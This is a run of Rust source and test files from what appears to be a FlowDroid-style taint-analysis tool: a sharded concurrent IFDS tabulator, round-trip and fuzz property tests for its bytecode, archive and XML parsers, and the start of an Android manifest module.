            summaries: Shards::new(),
            incoming: Shards::new(),
            propagations: AtomicU64::new(0),
        }
    }

    /// The key domain (e.g. to read interner statistics).
    pub fn domain(&self) -> &D {
        &self.dom
    }

    fn facts(&self, keys: &[D::Key]) -> Vec<F> {
        keys.iter().map(|k| self.dom.fact(k)).collect()
    }

    fn pairs(&self, pairs: Vec<(StmtRef, D::Key)>) -> Vec<(StmtRef, F)> {
        pairs.into_iter().map(|(s, k)| (s, self.dom.fact(&k))).collect()
    }

    /// Records the path edge `⟨·, d1⟩ → ⟨n, d2⟩`; returns `true` if it
    /// was new (the caller then schedules it).
    pub fn record_edge(&self, d1: &F, n: StmtRef, d2: &F) -> bool {
        let (k1, k2) = (self.dom.key(d1), self.dom.key(d2));
        let inserted = self.edges.for_key(&n).lock().unwrap().entry(n).or_default().insert(&k2, &k1);
        if inserted {
            self.propagations.fetch_add(1, Ordering::Relaxed);
        }
        inserted
    }

    /// All `d1` contexts recorded for `(n, d2)`. Keys are collected
    /// under the shard lock; facts are resolved after it is released.
    pub fn d1s_at(&self, n: StmtRef, d2: &F) -> Vec<F> {
        let k2 = self.dom.key(d2);
        let keys = self
            .edges
            .for_key(&n)
            .lock()
            .unwrap()
            .get(&n)
            .map(|rel| rel.d1s(&k2))
            .unwrap_or_default();
        self.facts(&keys)
    }

    /// Records a call context: the callee was entered with `d3` from
    /// `call_site` where `d2` held. Returns `true` if new.
    pub fn add_incoming(&self, callee: MethodId, d3: &F, call_site: StmtRef, d2: &F) -> bool {
        let (k3, k2) = (self.dom.key(d3), self.dom.key(d2));
        let mut shard = self.incoming.for_key(&callee).lock().unwrap();
        shard.entry(callee).or_default().entry(k3).or_default().insert(call_site, &k2)
    }

    /// The call contexts recorded for `(callee, d1)`.
    pub fn incoming_for(&self, callee: MethodId, d1: &F) -> Vec<(StmtRef, F)> {
        let k1 = self.dom.key(d1);
        let pairs = self
            .incoming
            .for_key(&callee)
            .lock()
            .unwrap()
            .get(&callee)
            .and_then(|by_fact| by_fact.get(&k1))
            .map(|s| s.to_vec())
            .unwrap_or_default();
        self.pairs(pairs)
    }

    /// Installs `(exit, d2)` as an end summary; returns `true` if new.
    pub fn install_summary(&self, callee: MethodId, d1: &F, exit: StmtRef, d2: &F) -> bool {
        let (k1, k2) = (self.dom.key(d1), self.dom.key(d2));
        let mut shard = self.summaries.for_key(&callee).lock().unwrap();
        shard.entry(callee).or_default().entry(k1).or_default().insert(exit, &k2)
    }

    /// The end summaries recorded for `(callee, d1)`.
    pub fn summaries_for(&self, callee: MethodId, d1: &F) -> Vec<(StmtRef, F)> {
        let k1 = self.dom.key(d1);
        let pairs = self
            .summaries
            .for_key(&callee)
            .lock()
            .unwrap()
            .get(&callee)
            .and_then(|by_fact| by_fact.get(&k1))
            .map(|s| s.to_vec())
            .unwrap_or_default();
        self.pairs(pairs)
    }

    /// Returns `true` if at least one end summary exists for
    /// `(callee, d1)` (cheaper than cloning them out).
    pub fn has_summaries(&self, callee: MethodId, d1: &F) -> bool {
        let k1 = self.dom.key(d1);
        self.summaries
            .for_key(&callee)
            .lock()
            .unwrap()
            .get(&callee)
            .and_then(|by_fact| by_fact.get(&k1))
            .is_some_and(|v| !v.is_empty())
    }

    /// Snapshots every end summary as `(callee, entry fact, exits)`
    /// (used to persist summaries at the fixpoint; locks each shard
    /// once).
    pub fn all_summaries(&self) -> Vec<(MethodId, F, Vec<(StmtRef, F)>)> {
        let mut raw = Vec::new();
        for shard in &self.summaries.shards {
            let shard = shard.lock().unwrap();
            for (m, by_fact) in shard.iter() {
                for (d1, exits) in by_fact {
                    raw.push((*m, d1.clone(), exits.to_vec()));
                }
            }
        }
        raw.into_iter().map(|(m, k1, exits)| (m, self.dom.fact(&k1), self.pairs(exits))).collect()
    }

    /// Number of `record_edge` calls that inserted a new edge.
    pub fn propagation_count(&self) -> u64 {
        self.propagations.load(Ordering::Relaxed)
    }

    /// Density counters across all shards of all tables (all zeros on
    /// the hash-map representation).
    pub fn table_stats(&self) -> TableStats {
        let mut stats = TableStats::default();
        for shard in &self.edges.shards {
            for rel in shard.lock().unwrap().values() {
                rel.collect_stats(&mut stats);
            }
        }
        for table in [&self.summaries, &self.incoming] {
            for shard in &table.shards {
                for by_fact in shard.lock().unwrap().values() {
                    for pairs in by_fact.values() {
                        pairs.collect_stats(&mut stats);
                    }
                }
            }
        }
        stats
    }

    /// Consumes the tables into `n → facts-at-n` (the result shape of
    /// the generic IFDS solver).
    pub fn into_facts(self) -> HashMap<StmtRef, Vec<F>> {
        let mut facts: HashMap<StmtRef, Vec<F>> = HashMap::new();
        for shard in &self.edges.shards {
            let shard = shard.lock().unwrap();
            for (n, rel) in shard.iter() {
                facts.entry(*n).or_default().extend(rel.keys().iter().map(|k| self.dom.fact(k)));
            }
        }
        facts
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sr(i: usize) -> StmtRef {
        StmtRef::new(MethodId::from_index(0), i)
    }

    #[test]
    fn record_edge_dedupes_across_threads() {
        let t: ConcurrentTabulator<u32> = ConcurrentTabulator::new();
        let news = std::sync::atomic::AtomicU64::new(0);
        std::thread::scope(|scope| {
            for _ in 0..4 {
                let t = &t;
                let news = &news;
                scope.spawn(move || {
                    for i in 0..100u32 {
                        if t.record_edge(&(i % 3), sr(i as usize % 7), &i) {
                            news.fetch_add(1, Ordering::Relaxed);
                        }
                    }
                });
            }
        });
        // 100 distinct (d1, n, d2) triples regardless of thread count.
        assert_eq!(news.load(Ordering::Relaxed), 100);
        assert_eq!(t.propagation_count(), 100);
    }

    #[test]
    fn incoming_and_summaries_dedupe() {
        let m = MethodId::from_index(3);
        let t: ConcurrentTabulator<u32> = ConcurrentTabulator::new();
        assert!(t.add_incoming(m, &1, sr(4), &5));
        assert!(!t.add_incoming(m, &1, sr(4), &5));
        assert_eq!(t.incoming_for(m, &1), vec![(sr(4), 5)]);
        assert!(t.install_summary(m, &1, sr(9), &2));
        assert!(!t.install_summary(m, &1, sr(9), &2));
        assert_eq!(t.summaries_for(m, &1), vec![(sr(9), 2)]);
        assert!(t.has_summaries(m, &1));
        assert!(!t.has_summaries(m, &0));
    }

    #[test]
    fn into_facts_collects_by_statement() {
        let t: ConcurrentTabulator<u32> = ConcurrentTabulator::new();
        t.record_edge(&0, sr(2), &5);
        t.record_edge(&0, sr(2), &6);
        t.record_edge(&1, sr(2), &5);
        t.record_edge(&0, sr(3), &7);
        let facts = t.into_facts();
        let mut at2 = facts[&sr(2)].clone();
        at2.sort_unstable();
        assert_eq!(at2, vec![5, 6]);
        assert_eq!(facts[&sr(3)], vec![7]);
    }
}
