//! The concurrent counterpart of [`Tabulator`](crate::Tabulator):
//! path-edge, end-summary and incoming tables behind independently
//! locked shards, usable from many worker threads.
//!
//! Extracted from the parallel IFDS solver so the bidirectional taint
//! engine can drive two of them (forward + backward) over the same
//! work-stealing scheduler. Shards are addressed by the Fx hash of the
//! outer key (statement for edges, callee for summaries/incoming);
//! workers touching different statements or callees never contend.
//! Within a shard the maps are nested (`stmt → fact → …`), so lookups
//! borrow instead of cloning facts into tuple keys.
//!
//! The cross-table handshake discipline (register your own half, then
//! read the other's) works across threads because each shard is a
//! mutex: a release on the incoming shard followed by an acquire on the
//! summary shard orders the accesses such that of two racing
//! (call-side, exit-side) updates at least one side observes the other.

use flowdroid_ir::{fxhash64, FxHashMap, FxHashSet, MethodId, StmtRef};
use std::collections::HashMap;
use std::hash::Hash;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Mutex;

/// Number of independently locked shards per table (power of two).
const SHARD_COUNT: usize = 16;

/// `callee → fact → (statement, fact)` pairs, one shard's worth.
type MethodFactMap<F> = FxHashMap<MethodId, FxHashMap<F, Vec<(StmtRef, F)>>>;

/// A table split into independently locked shards, addressed by the Fx
/// hash of a chosen outer key.
struct Shards<T> {
    shards: Vec<Mutex<T>>,
}

impl<T: Default> Shards<T> {
    fn new() -> Self {
        Shards { shards: (0..SHARD_COUNT).map(|_| Mutex::new(T::default())).collect() }
    }

    /// The shard holding `key`'s entries.
    fn for_key<K: Hash>(&self, key: &K) -> &Mutex<T> {
        debug_assert!(self.shards.len().is_power_of_two());
        let h = fxhash64(key) as usize;
        // Fx mixes the low bits last; take high bits for the index.
        &self.shards[(h >> (64 - SHARD_COUNT.trailing_zeros())) & (self.shards.len() - 1)]
    }
}

/// Sharded path-edge / end-summary / incoming tables for one direction
/// of a parallel tabulation.
pub struct ConcurrentTabulator<F> {
    /// n → d2 → d1 set, sharded by n.
    edges: Shards<FxHashMap<StmtRef, FxHashMap<F, FxHashSet<F>>>>,
    /// callee → d1 → exit facts, sharded by callee.
    summaries: Shards<MethodFactMap<F>>,
    /// callee → d3 → call contexts, sharded by callee.
    incoming: Shards<MethodFactMap<F>>,
    propagations: AtomicU64,
}

impl<F: Clone + Eq + Hash> Default for ConcurrentTabulator<F> {
    fn default() -> Self {
        Self::new()
    }
}

impl<F: Clone + Eq + Hash> ConcurrentTabulator<F> {
    /// Creates empty tables.
    pub fn new() -> Self {
        ConcurrentTabulator {
            edges: Shards::new(),
            summaries: Shards::new(),
            incoming: Shards::new(),
            propagations: AtomicU64::new(0),
        }
    }

    /// Records the path edge `⟨·, d1⟩ → ⟨n, d2⟩`; returns `true` if it
    /// was new (the caller then schedules it).
    pub fn record_edge(&self, d1: &F, n: StmtRef, d2: &F) -> bool {
        let inserted = self
            .edges
            .for_key(&n)
            .lock()
            .unwrap()
            .entry(n)
            .or_default()
            .entry(d2.clone())
            .or_default()
            .insert(d1.clone());
        if inserted {
            self.propagations.fetch_add(1, Ordering::Relaxed);
        }
        inserted
    }

    /// All `d1` contexts recorded for `(n, d2)`. The lookup borrows
    /// `d2`; only the found facts are cloned, under the shard lock.
    pub fn d1s_at(&self, n: StmtRef, d2: &F) -> Vec<F> {
        self.edges
            .for_key(&n)
            .lock()
            .unwrap()
            .get(&n)
            .and_then(|by_fact| by_fact.get(d2))
            .map(|s| s.iter().cloned().collect())
            .unwrap_or_default()
    }

    /// Records a call context: the callee was entered with `d3` from
    /// `call_site` where `d2` held. Returns `true` if new.
    pub fn add_incoming(&self, callee: MethodId, d3: &F, call_site: StmtRef, d2: &F) -> bool {
        let mut shard = self.incoming.for_key(&callee).lock().unwrap();
        let v = shard.entry(callee).or_default().entry(d3.clone()).or_default();
        let entry = (call_site, d2.clone());
        if v.contains(&entry) {
            false
        } else {
            v.push(entry);
            true
        }
    }

    /// The call contexts recorded for `(callee, d1)`.
    pub fn incoming_for(&self, callee: MethodId, d1: &F) -> Vec<(StmtRef, F)> {
        self.incoming
            .for_key(&callee)
            .lock()
            .unwrap()
            .get(&callee)
            .and_then(|by_fact| by_fact.get(d1))
            .cloned()
            .unwrap_or_default()
    }

    /// Installs `(exit, d2)` as an end summary; returns `true` if new.
    pub fn install_summary(&self, callee: MethodId, d1: &F, exit: StmtRef, d2: &F) -> bool {
        let mut shard = self.summaries.for_key(&callee).lock().unwrap();
        let v = shard.entry(callee).or_default().entry(d1.clone()).or_default();
        let entry = (exit, d2.clone());
        if v.contains(&entry) {
            false
        } else {
            v.push(entry);
            true
        }
    }

    /// The end summaries recorded for `(callee, d1)`.
    pub fn summaries_for(&self, callee: MethodId, d1: &F) -> Vec<(StmtRef, F)> {
        self.summaries
            .for_key(&callee)
            .lock()
            .unwrap()
            .get(&callee)
            .and_then(|by_fact| by_fact.get(d1))
            .cloned()
            .unwrap_or_default()
    }

    /// Returns `true` if at least one end summary exists for
    /// `(callee, d1)` (cheaper than cloning them out).
    pub fn has_summaries(&self, callee: MethodId, d1: &F) -> bool {
        self.summaries
            .for_key(&callee)
            .lock()
            .unwrap()
            .get(&callee)
            .and_then(|by_fact| by_fact.get(d1))
            .is_some_and(|v| !v.is_empty())
    }

    /// Snapshots every end summary as `(callee, entry fact, exits)`
    /// (used to persist summaries at the fixpoint; locks each shard
    /// once).
    pub fn all_summaries(&self) -> Vec<(MethodId, F, Vec<(StmtRef, F)>)> {
        let mut out = Vec::new();
        for shard in &self.summaries.shards {
            let shard = shard.lock().unwrap();
            for (m, by_fact) in shard.iter() {
                for (d1, exits) in by_fact {
                    out.push((*m, d1.clone(), exits.clone()));
                }
            }
        }
        out
    }

    /// Number of `record_edge` calls that inserted a new edge.
    pub fn propagation_count(&self) -> u64 {
        self.propagations.load(Ordering::Relaxed)
    }

    /// Consumes the tables into `n → facts-at-n` (the result shape of
    /// the generic IFDS solver).
    pub fn into_facts(self) -> HashMap<StmtRef, Vec<F>> {
        let mut facts: HashMap<StmtRef, Vec<F>> = HashMap::new();
        for shard in self.edges.shards {
            for (n, by_fact) in shard.into_inner().unwrap() {
                facts.entry(n).or_default().extend(by_fact.into_keys());
            }
        }
        facts
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sr(i: usize) -> StmtRef {
        StmtRef::new(MethodId::from_index(0), i)
    }

    #[test]
    fn record_edge_dedupes_across_threads() {
        let t: ConcurrentTabulator<u32> = ConcurrentTabulator::new();
        let news = std::sync::atomic::AtomicU64::new(0);
        std::thread::scope(|scope| {
            for _ in 0..4 {
                let t = &t;
                let news = &news;
                scope.spawn(move || {
                    for i in 0..100u32 {
                        if t.record_edge(&(i % 3), sr(i as usize % 7), &i) {
                            news.fetch_add(1, Ordering::Relaxed);
                        }
                    }
                });
            }
        });
        // 100 distinct (d1, n, d2) triples regardless of thread count.
        assert_eq!(news.load(Ordering::Relaxed), 100);
        assert_eq!(t.propagation_count(), 100);
    }

    #[test]
    fn incoming_and_summaries_dedupe() {
        let m = MethodId::from_index(3);
        let t: ConcurrentTabulator<u32> = ConcurrentTabulator::new();
        assert!(t.add_incoming(m, &1, sr(4), &5));
        assert!(!t.add_incoming(m, &1, sr(4), &5));
        assert_eq!(t.incoming_for(m, &1), vec![(sr(4), 5)]);
        assert!(t.install_summary(m, &1, sr(9), &2));
        assert!(!t.install_summary(m, &1, sr(9), &2));
        assert_eq!(t.summaries_for(m, &1), vec![(sr(9), 2)]);
        assert!(t.has_summaries(m, &1));
        assert!(!t.has_summaries(m, &0));
    }

    #[test]
    fn into_facts_collects_by_statement() {
        let t: ConcurrentTabulator<u32> = ConcurrentTabulator::new();
        t.record_edge(&0, sr(2), &5);
        t.record_edge(&0, sr(2), &6);
        t.record_edge(&1, sr(2), &5);
        t.record_edge(&0, sr(3), &7);
        let facts = t.into_facts();
        let mut at2 = facts[&sr(2)].clone();
        at2.sort_unstable();
        assert_eq!(at2, vec![5, 6]);
        assert_eq!(facts[&sr(3)], vec![7]);
    }
}
