//! Property tests: SDEX encode → decode (and jasm emit → parse)
//! preserve programs exactly.

use flowdroid_frontend::layout::ResourceTable;
use flowdroid_frontend::{parse_jasm, sdex};
use flowdroid_ir::{
    BinOp, Constant, MethodBuilder, Operand, Place, Program, ProgramPrinter, Rvalue, Type,
};
use proptest::prelude::*;

/// A statement recipe the generator can emit.
#[derive(Debug, Clone)]
enum Recipe {
    Nop,
    ConstInt(i64),
    ConstStr(String),
    Move,
    FieldStore,
    FieldLoad,
    StaticStore,
    ArrayStore(u8),
    BinAdd,
    CallStatic,
    CallVirtual,
    OpaqueBranch,
}

fn recipe_strategy() -> impl Strategy<Value = Recipe> {
    prop_oneof![
        Just(Recipe::Nop),
        any::<i64>().prop_map(Recipe::ConstInt),
        "[a-z]{0,8}".prop_map(Recipe::ConstStr),
        Just(Recipe::Move),
        Just(Recipe::FieldStore),
        Just(Recipe::FieldLoad),
        Just(Recipe::StaticStore),
        any::<u8>().prop_map(Recipe::ArrayStore),
        Just(Recipe::BinAdd),
        Just(Recipe::CallStatic),
        Just(Recipe::CallVirtual),
        Just(Recipe::OpaqueBranch),
    ]
}

/// Builds a program with one class and one method whose body follows the
/// recipes.
fn build_program(recipes: &[Recipe]) -> (Program, flowdroid_ir::ClassId) {
    let mut p = Program::new();
    p.declare_class("java.lang.Object", None, &[]);
    let c = p.declare_class("gen.C", Some("java.lang.Object"), &[]);
    let holder_ty = p.ref_type("gen.C");
    let f = p.declare_field(c, "data", Type::Int, false);
    let sf = p.declare_field(c, "global", Type::Int, true);
    let mut b = MethodBuilder::new_instance(&mut p, c, "m", vec![Type::Int], Type::Void);
    let this = b.this();
    let x = b.local("x", Type::Int);
    let y = b.local("y", Type::Int);
    let o = b.local("o", holder_ty);
    let arr = b.local("arr", Type::Int.array_of());
    b.assign_local(x, Rvalue::Const(Constant::Int(0)));
    b.assign_local(y, Rvalue::Const(Constant::Int(0)));
    b.assign_local(o, Rvalue::Read(Place::Local(this)));
    b.assign_local(arr, Rvalue::NewArray(Type::Int, Operand::Const(Constant::Int(4))));
    let end = b.fresh_label();
    for r in recipes {
        match r {
            Recipe::Nop => {
                b.nop();
            }
            Recipe::ConstInt(v) => {
                b.assign_local(x, Rvalue::Const(Constant::Int(*v)));
            }
            Recipe::ConstStr(s) => {
                let sym = b.program().intern(s);
                let sl = x; // ints and strings share a slot; types are not checked
                b.assign_local(sl, Rvalue::Const(Constant::Str(sym)));
            }
            Recipe::Move => {
                b.assign_local(y, Rvalue::Read(Place::Local(x)));
            }
            Recipe::FieldStore => {
                b.assign(Place::InstanceField(o, f), Rvalue::Read(Place::Local(x)));
            }
            Recipe::FieldLoad => {
                b.assign_local(y, Rvalue::Read(Place::InstanceField(o, f)));
            }
            Recipe::StaticStore => {
                b.assign(Place::StaticField(sf), Rvalue::Read(Place::Local(y)));
            }
            Recipe::ArrayStore(i) => {
                b.assign(
                    Place::ArrayElem(arr, Operand::Const(Constant::Int(i64::from(*i)))),
                    Rvalue::Read(Place::Local(x)),
                );
            }
            Recipe::BinAdd => {
                b.assign_local(x, Rvalue::BinOp(BinOp::Add, x.into(), y.into()));
            }
            Recipe::CallStatic => {
                b.call_static(Some(x), "gen.Helper", "get", vec![Type::Int], Type::Int, vec![
                    y.into(),
                ]);
            }
            Recipe::CallVirtual => {
                b.call_virtual(None, o, "gen.C", "m", vec![Type::Int], Type::Void, vec![x.into()]);
            }
            Recipe::OpaqueBranch => {
                b.if_opaque(end);
            }
        }
    }
    b.bind(end);
    b.ret(None);
    b.finish();
    (p, c)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn encode_decode_preserves_pretty_printed_class(
        recipes in proptest::collection::vec(recipe_strategy(), 0..24)
    ) {
        let (p, c) = build_program(&recipes);
        let bytes = sdex::encode(&p, &[c]);
        let mut q = Program::new();
        let ids = sdex::decode(&mut q, &bytes).expect("decode");
        prop_assert_eq!(ids.len(), 1);
        let before = ProgramPrinter::new(&p).class_to_string(c);
        let after = ProgramPrinter::new(&q).class_to_string(ids[0]);
        prop_assert_eq!(before, after);
    }

    #[test]
    fn emit_parse_round_trip_preserves_pretty_printed_class(
        recipes in proptest::collection::vec(recipe_strategy(), 0..24)
    ) {
        let (p, c) = build_program(&recipes);
        let text = flowdroid_frontend::emit_jasm(&p, &[c]);
        let mut q = Program::new();
        q.declare_class("java.lang.Object", None, &[]);
        let rt = ResourceTable::new();
        let ids = parse_jasm(&mut q, &rt, &text)
            .unwrap_or_else(|e| panic!("emitted text re-parses: {e}\n{text}"));
        prop_assert_eq!(ids.len(), 1);
        let before = ProgramPrinter::new(&p).class_to_string(c);
        let after = ProgramPrinter::new(&q).class_to_string(ids[0]);
        prop_assert_eq!(before, after, "emitted:\n{}", text);
    }

    #[test]
    fn decode_of_corrupted_bytes_never_panics(
        recipes in proptest::collection::vec(recipe_strategy(), 0..8),
        flip in 6usize..256,
        val in any::<u8>(),
    ) {
        let (p, c) = build_program(&recipes);
        let mut bytes = sdex::encode(&p, &[c]);
        if flip < bytes.len() {
            bytes[flip] = val;
        }
        let mut q = Program::new();
        let _ = sdex::decode(&mut q, &bytes); // must not panic
    }

    /// Lazy decode + materializing every pending body yields exactly the
    /// same program as the eager decoder.
    #[test]
    fn lazy_decode_materializes_to_same_class(
        recipes in proptest::collection::vec(recipe_strategy(), 0..24)
    ) {
        let (p, c) = build_program(&recipes);
        let bytes = sdex::encode(&p, &[c]);

        let mut eager = Program::new();
        let eager_ids = sdex::decode(&mut eager, &bytes).expect("eager decode");

        let mut lazy = Program::new();
        let lazy_ids = sdex::decode_lazy(&mut lazy, bytes.into()).expect("lazy decode");
        prop_assert_eq!(eager_ids.len(), lazy_ids.len());
        // Nothing decoded yet beyond the declarations.
        let pending: Vec<_> = lazy.methods().filter(|m| m.body_is_pending()).map(|m| m.id()).collect();
        prop_assert!(pending.iter().all(|&m| lazy.method(m).body().is_none()));
        for m in pending {
            lazy.ensure_body(m);
        }
        prop_assert_eq!(lazy.pending_body_count(), 0);
        let before = ProgramPrinter::new(&eager).class_to_string(eager_ids[0]);
        let after = ProgramPrinter::new(&lazy).class_to_string(lazy_ids[0]);
        prop_assert_eq!(before, after);
    }

    /// The lazy declaration pass validates bodies up front: corrupted
    /// bytes are rejected at load time (or load identically to eager),
    /// never at materialization.
    #[test]
    fn lazy_decode_of_corrupted_bytes_rejects_at_load(
        recipes in proptest::collection::vec(recipe_strategy(), 0..8),
        flip in 6usize..256,
        val in any::<u8>(),
    ) {
        let (p, c) = build_program(&recipes);
        let mut bytes = sdex::encode(&p, &[c]);
        if flip < bytes.len() {
            bytes[flip] = val;
        }
        let mut q = Program::new();
        if sdex::decode_lazy(&mut q, bytes.into()).is_ok() {
            // Whatever loaded must materialize without panicking.
            let pending: Vec<_> =
                q.methods().filter(|m| m.body_is_pending()).map(|m| m.id()).collect();
            for m in pending {
                q.ensure_body(m);
            }
        }
    }
}

#[test]
fn jasm_to_sdex_to_program_matches_direct_parse() {
    let src = r#"
class demo.App extends java.lang.Object {
  field items: java.lang.String[]
  static field seen: int
  method run(input: java.lang.String) -> java.lang.String {
    let buf: java.lang.String
    buf = input
    this.items = null
    static demo.App.seen = 1
    if input == null goto out
    buf = buf + "x"
  label out:
    return buf
  }
  native method nat(x: int) -> int
}
"#;
    let mut direct = Program::new();
    let rt = ResourceTable::new();
    let direct_ids = parse_jasm(&mut direct, &rt, src).unwrap();
    let bytes = sdex::encode(&direct, &direct_ids);
    let mut via = Program::new();
    let via_ids = sdex::decode(&mut via, &bytes).unwrap();
    assert_eq!(
        ProgramPrinter::new(&direct).class_to_string(direct_ids[0]),
        ProgramPrinter::new(&via).class_to_string(via_ids[0]),
    );
}
