//! Robustness: the front-end parsers must reject arbitrary and mutated
//! input with errors, never panics.

use flowdroid_frontend::layout::ResourceTable;
use flowdroid_frontend::{parse_jasm, rpk::Archive, xml};
use flowdroid_ir::Program;
use proptest::prelude::*;

const VALID: &str = r#"
class fz.Main extends java.lang.Object {
  static field g: int
  method run(x: java.lang.String) -> java.lang.String {
    let y: java.lang.String
    let i: int
    y = x + "suffix"
    i = 0
  label top:
    if i >= 3 goto done
    i = i + 1
    goto top
  label done:
    return y
  }
}
"#;

proptest! {
    #![proptest_config(ProptestConfig::with_cases(192))]

    /// Arbitrary text never panics the jasm parser.
    #[test]
    fn jasm_arbitrary_input_never_panics(input in ".{0,256}") {
        let mut p = Program::new();
        let rt = ResourceTable::new();
        let _ = parse_jasm(&mut p, &rt, &input);
    }

    /// Arbitrary token-ish soup never panics either.
    #[test]
    fn jasm_token_soup_never_panics(
        words in proptest::collection::vec(
            prop_oneof![
                Just("class".to_owned()),
                Just("method".to_owned()),
                Just("{".to_owned()),
                Just("}".to_owned()),
                Just("(".to_owned()),
                Just(")".to_owned()),
                Just("->".to_owned()),
                Just("let".to_owned()),
                Just(":".to_owned()),
                Just("=".to_owned()),
                Just("goto".to_owned()),
                Just("if".to_owned()),
                Just("return".to_owned()),
                Just("staticinvoke".to_owned()),
                Just("<".to_owned()),
                Just(">".to_owned()),
                "[a-z]{1,6}",
                "[0-9]{1,4}",
            ],
            0..64,
        )
    ) {
        let input = words.join(" ");
        let mut p = Program::new();
        let rt = ResourceTable::new();
        let _ = parse_jasm(&mut p, &rt, &input);
    }

    /// Mutating one byte of a valid program never panics (it may still
    /// parse if the mutation hits a comment or identifier).
    #[test]
    fn jasm_single_byte_mutation_never_panics(pos in 0usize..512, byte in 32u8..127) {
        let mut text = VALID.as_bytes().to_vec();
        if pos < text.len() {
            text[pos] = byte;
        }
        if let Ok(input) = std::str::from_utf8(&text) {
            let mut p = Program::new();
            let rt = ResourceTable::new();
            let _ = parse_jasm(&mut p, &rt, input);
        }
    }

    /// Arbitrary bytes never panic the archive or XML parsers.
    #[test]
    fn containers_never_panic(bytes in proptest::collection::vec(any::<u8>(), 0..256)) {
        let _ = Archive::from_bytes(&bytes);
        if let Ok(text) = std::str::from_utf8(&bytes) {
            let _ = xml::parse(text);
            let _ = flowdroid_frontend::Manifest::parse(text);
            let _ = flowdroid_frontend::Layout::parse("x", text);
        }
    }
}

#[test]
fn the_valid_fixture_actually_parses() {
    let mut p = Program::new();
    let rt = ResourceTable::new();
    parse_jasm(&mut p, &rt, VALID).unwrap();
}
