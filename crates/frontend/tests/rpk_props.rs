//! Property tests for the `.rpk` archive codec: the parser must reject
//! every corrupted input — truncations at any offset, single-bit
//! flips, oversized length declarations, arbitrary byte soup — with a
//! clean [`ArchiveError`], never a panic or an out-of-bounds slice,
//! while round-tripping every well-formed archive exactly.

use flowdroid_frontend::rpk::Archive;
use proptest::prelude::*;

/// Strategy for archive contents: 0–6 entries with arbitrary (short)
/// paths and binary payloads, including empty ones. Duplicate paths
/// collapse (last wins), exactly as `Archive::add` documents.
fn arb_entries() -> impl Strategy<Value = Vec<(String, Vec<u8>)>> {
    proptest::collection::vec(
        ("[a-zA-Z0-9_/.-]{0,24}", proptest::collection::vec(any::<u8>(), 0..64)),
        0..6,
    )
}

fn build(entries: &[(String, Vec<u8>)]) -> Archive {
    let mut a = Archive::new();
    for (path, data) in entries {
        a.add(path.clone(), data.clone());
    }
    a
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(192))]

    /// Encode/decode is the identity on well-formed archives.
    #[test]
    fn roundtrip_is_exact(entries in arb_entries()) {
        let archive = build(&entries);
        let bytes = archive.to_bytes();
        let back = Archive::from_bytes(&bytes).expect("self-produced bytes parse");
        prop_assert_eq!(archive.len(), back.len());
        for (path, data) in archive.iter() {
            prop_assert_eq!(back.get(path), Some(data));
        }
    }

    /// Every proper-prefix truncation is rejected cleanly. (A valid
    /// archive's serialization is self-delimiting, so no strict prefix
    /// can also be valid — cutting mid-header, mid-path or mid-payload
    /// must all surface as errors, never panics.)
    #[test]
    fn every_truncation_is_rejected(entries in arb_entries()) {
        let bytes = build(&entries).to_bytes();
        for cut in 0..bytes.len() {
            prop_assert!(
                Archive::from_bytes(&bytes[..cut]).is_err(),
                "truncation to {}/{} bytes parsed", cut, bytes.len()
            );
        }
    }

    /// A single flipped bit never panics the parser; when it still
    /// parses, the result must serialize back without panicking too.
    #[test]
    fn bit_flips_never_panic(entries in arb_entries(), idx in any::<usize>(), bit in 0u8..8) {
        let mut bytes = build(&entries).to_bytes();
        let i = idx % bytes.len();
        bytes[i] ^= 1 << bit;
        if let Ok(parsed) = Archive::from_bytes(&bytes) {
            let _ = parsed.to_bytes();
        }
    }

    /// Headers that declare more entries, longer paths, or larger
    /// payloads than the input carries are rejected, not trusted. The
    /// declared size is adversarial — up to `u64::MAX` — so the parser
    /// must bound its work by the *actual* input length.
    #[test]
    fn oversized_length_declarations_are_rejected(declared in 1u64..=u64::MAX, which in 0usize..3) {
        let path = b"classes.jasm";
        let data = b"class A {}";
        // Build the archive by hand so one length field can be inflated.
        let uleb = |out: &mut Vec<u8>, mut v: u64| loop {
            let b = (v & 0x7f) as u8;
            v >>= 7;
            if v == 0 { out.push(b); break; }
            out.push(b | 0x80);
        };
        let mut bytes = b"RPK1".to_vec();
        uleb(&mut bytes, if which == 0 { declared } else { 1 });
        uleb(&mut bytes, if which == 1 { declared } else { path.len() as u64 });
        bytes.extend_from_slice(path);
        uleb(&mut bytes, if which == 2 { declared } else { data.len() as u64 });
        bytes.extend_from_slice(data);
        // Inflating the entry count, the path length or the data length
        // all desynchronize the stream; only the exact original values
        // parse.
        let exact = (which == 0 && declared == 1)
            || (which == 1 && declared == path.len() as u64)
            || (which == 2 && declared == data.len() as u64);
        if exact {
            prop_assert!(Archive::from_bytes(&bytes).is_ok());
        } else {
            prop_assert!(
                Archive::from_bytes(&bytes).is_err(),
                "inflated length field {} = {} parsed", which, declared
            );
        }
    }

    /// Arbitrary byte soup (with and without a valid magic) never
    /// panics.
    #[test]
    fn arbitrary_bytes_never_panic(soup in proptest::collection::vec(any::<u8>(), 0..256), magic in any::<bool>()) {
        let mut bytes = soup;
        if magic && bytes.len() >= 4 {
            bytes[..4].copy_from_slice(b"RPK1");
        }
        let _ = Archive::from_bytes(&bytes);
    }
}

/// The error type carries the offset of the corruption, which callers
/// (the daemon's external-app loader) surface verbatim.
#[test]
fn errors_carry_offsets() {
    let err = Archive::from_bytes(b"RPK1\x01\x7f").unwrap_err();
    let msg = err.to_string();
    assert!(msg.contains("at byte"), "got: {msg}");
}
