//! `AndroidManifest.xml` semantics: the app's declared components.

use crate::xml::{self, XmlError};
use std::fmt;

/// The four Android component kinds.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum ComponentKind {
    /// A UI screen.
    Activity,
    /// A background task.
    Service,
    /// A global-event listener.
    BroadcastReceiver,
    /// A database-like storage component.
    ContentProvider,
}

impl ComponentKind {
    /// The framework base class for this kind.
    pub fn base_class(self) -> &'static str {
        match self {
            ComponentKind::Activity => "android.app.Activity",
            ComponentKind::Service => "android.app.Service",
            ComponentKind::BroadcastReceiver => "android.content.BroadcastReceiver",
            ComponentKind::ContentProvider => "android.content.ContentProvider",
        }
    }
}

impl fmt::Display for ComponentKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
